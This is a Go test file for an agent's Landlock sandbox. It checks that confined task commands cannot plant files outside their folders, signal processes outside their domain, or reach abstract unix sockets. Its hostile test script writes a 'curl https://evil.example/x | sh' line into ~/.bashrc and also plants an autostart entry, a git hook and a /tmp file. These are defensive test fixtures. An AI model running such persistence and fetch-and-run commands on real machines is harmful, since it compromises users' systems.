package agent_test

import (
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/aoi-protocol/aoi/agent"
	"github.com/aoi-protocol/aoi/agent/task"
	"github.com/aoi-protocol/aoi/config"
)

// needsLandlock skips a test of the confinement only where the kernel has
// no Landlock at all (this machine and CI have it).
func needsLandlock(t *testing.T) {
	t.Helper()
	if abi := task.LandlockABI(); abi == 0 {
		t.Skip("the kernel offers no Landlock (ABI 0): task commands run unconfined here")
	}
}

// plantScript is a hostile test script: it writes, by absolute path, a
// line in the owner's ~/.bashrc, an autostart entry, a hook in another of
// the owner's repositories and a file in the shared /tmp, then does a test
// script's normal work (its worktree, $TMPDIR, a go test). It reports each
// write that worked on $1.
const plantScript = `out="$1"; home="$2"; hooks="$3"; shared="$4"
try() { if sh -c "$2" 2>/dev/null; then echo "wrote $1" >> "$out"; else echo "refused $1" >> "$out"; fi; }
try bashrc "echo 'curl https://evil.example/x | sh' >> '$home/.bashrc'"
try autostart "mkdir -p '$home/.config/autostart' && echo '[Desktop Entry]' > '$home/.config/autostart/x.desktop'"
try hook "printf '#!/bin/sh\necho pwned\n' > '$hooks/post-checkout'"
try tmp "echo x > '$shared/planted'"
try worktree "echo ok > built.txt && rm built.txt"
try tmpdir "echo ok > \"\$TMPDIR/scratch\""
mkdir m && cd m
printf 'module example.com/m\n\ngo 1.22\n' > go.mod
printf 'package m\n\nimport "testing"\n\nfunc TestOK(t *testing.T) { _ = t.TempDir() }\n' > m_test.go
if go test -count=1 . >/dev/null 2>&1; then echo "wrote gotest" >> "$out"; else echo "refused gotest" >> "$out"; fi
`

// The attack pass's task wrote, by absolute path, the owner's dotfiles,
// another repository's hooks and the shared /tmp: a scratch home keeps
// $HOME away, not a path spelled out. Confined by Landlock, the command
// writes only its worktree, its task folder and the requester's caches:
// every plant is refused and nothing lands, while its normal work (its
// worktree, $TMPDIR, a go test building with the peer's caches) succeeds.
// A type the owner marks unconfined plants all of it, and its output says
// it ran unconfined: the confinement is what stops it.
func TestConfinedTaskWritesOnlyItsOwnFolders(t *testing.T) {
	needsLandlock(t)
	if _, err := exec.LookPath("go"); err != nil {
		t.Skip("no go command")
	}
	t.Setenv("GOTOOLCHAIN", "local")
	t.Setenv("GOFLAGS", "")
	owner := t.TempDir() // stands for the owner's home
	other := gitRepo(t)  // another of the owner's repositories
	hooks := filepath.Join(other, ".git", "hooks")
	shared := t.TempDir() // stands for /tmp
	for name, unconfined := range map[string]bool{"confined": false, "unconfined": true} {
		t.Run(name, func(t *testing.T) {
			for _, f := range []string{filepath.Join(owner, ".bashrc"), filepath.Join(owner, ".config"), filepath.Join(hooks, "post-checkout"), filepath.Join(shared, "planted")} {
				_ = os.RemoveAll(f)
			}
			eng, done, seen := runScriptTask(t, plantScript, func(tt *config.TaskType) {
				tt.Command = append(tt.Command, owner, hooks, shared)
				tt.TimeoutSec, tt.Unconfined = 60, unconfined
			})
			if done.State != agent.TaskCompleted {
				t.Fatalf("task %s %q; want completed", done.State, done.Error)
			}
			want := "refused"
			if unconfined {
				want = "wrote"
			}
			for _, plant := range []string{"bashrc", "autostart", "hook", "tmp"} {
				if !strings.Contains(seen, want+" "+plant+"\n") {
					t.Errorf("%s: the task's %s plant: %q; want %s", name, plant, seen, want)
				}
			}
			for _, work := range []string{"worktree", "tmpdir", "gotest"} {
				if !strings.Contains(seen, "wrote "+work+"\n") {
					t.Errorf("%s: the task's own work (%s) failed: %q", name, work, seen)
				}
			}
			planted := []string{filepath.Join(owner, ".bashrc"), filepath.Join(owner, ".config", "autostart", "x.desktop"), filepath.Join(hooks, "post-checkout"), filepath.Join(shared, "planted")}
			for _, f := range planted {
				_, err := os.Stat(f)
				if !unconfined && err == nil {
					t.Errorf("the confined task wrote %s", f)
				}
			}
			output, _ := os.ReadFile(filepath.Join(eng.Dir, "tasks", done.ID, "output.log"))
			if said := strings.Contains(string(output), "runs unconfined"); said != unconfined {
				t.Errorf("%s: the output says it ran unconfined: %v; output %q", name, said, output)
			}
		})
	}
}

// A command runs as the owner, so it could kill its reaper (to leave
// processes behind) or aoi itself: it knows both pids. Confined, it is in
// a Landlock domain neither is in, and signals out of it are refused
// (EPERM): its reaper survives to sweep and report (the task completes
// rather than failing for a killed reaper), and aoi's stand-in, a process
// of the test's own, lives on; it still signals what it started itself.
// The test process itself is sent SIGCONT (harmless were it delivered).
func TestConfinedTaskCannotSignalOutOfItsDomain(t *testing.T) {
	needsLandlock(t)
	standIn := exec.Command("sleep", "120")
	if err := standIn.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = standIn.Process.Kill(); _ = standIn.Wait() })
	script := fmt.Sprintf(`out="$1"
kill -9 $PPID 2>>"$out" && echo "killed the reaper" >> "$out"
kill -9 %d 2>>"$out" && echo "killed aoi's stand-in" >> "$out"
kill -CONT %d 2>>"$out" && echo "signalled the test process" >> "$out"
sleep 60 & kill -9 $! && echo "killed its own child" >> "$out"
sleep 0.2
`, standIn.Process.Pid, os.Getpid())
	_, done, seen := runScriptTask(t, script, nil)
	if done.State != agent.TaskCompleted {
		t.Errorf("task %s %q; want completed, its reaper alive to report", done.State, done.Error)
	}
	for _, escaped := range []string{"killed the reaper", "killed aoi's stand-in", "signalled the test process"} {
		if strings.Contains(seen, escaped) {
			t.Errorf("the confined task %s: %q", escaped, seen)
		}
	}
	if n := strings.Count(seen, "Operation not permitted"); n != 3 {
		t.Errorf("the task's kills out of its domain: %q; want 3 refused with EPERM", seen)
	}
	if !strings.Contains(seen, "killed its own child") {
		t.Errorf("the task could not signal what it started itself: %q", seen)
	}
	if err := standIn.Process.Signal(syscall.Signal(0)); err != nil {
		t.Errorf("aoi's stand-in is gone: %v", err)
	}
}

// An abstract unix socket has no file to confine: the owner's session
// listens on some (X11's @/tmp/.X11-unix/X0, older D-Bus buses). A
// confined command cannot connect to one made outside its domain; one it
// makes itself it can.
func TestConfinedTaskCannotReachAbstractSockets(t *testing.T) {
	needsLandlock(t)
	python, err := exec.LookPath("python3")
	if err != nil {
		t.Skip("no python3 to connect with")
	}
	name := "aoi-test-" + strconv.Itoa(os.Getpid()) + "-" + strconv.FormatInt(time.Now().UnixNano(), 36)
	ln, err := net.Listen("unix", "@"+name)
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			c.Close()
		}
	}()
	probe := `import socket, sys
s = socket.socket(socket.AF_UNIX)
try:
    s.connect("\0" + sys.argv[1]); print("reached the owner's socket")
except OSError as e:
    print("refused:", e)
own = socket.socket(socket.AF_UNIX); own.bind("\0" + sys.argv[1] + "-own"); own.listen(1)
c = socket.socket(socket.AF_UNIX); c.connect("\0" + sys.argv[1] + "-own"); print("reached its own socket")
`
	script := `"$2" -c "$3" "$4" >> "$1" 2>&1`
	_, done, seen := runScriptTask(t, script, func(tt *config.TaskType) {
		tt.Command = append(tt.Command, python, probe, name)
	})
	if done.State != agent.TaskCompleted {
		t.Fatalf("task %s %q (%q); want completed", done.State, done.Error, seen)
	}
	if strings.Contains(seen, "reached the owner's socket") || !strings.Contains(seen, "refused:") {
		t.Errorf("the confined task's connect to an abstract socket outside its domain: %q; want refused", seen)
	}
	if !strings.Contains(seen, "reached its own socket") {
		t.Errorf("the task could not use an abstract socket of its own: %q", seen)
	}
}
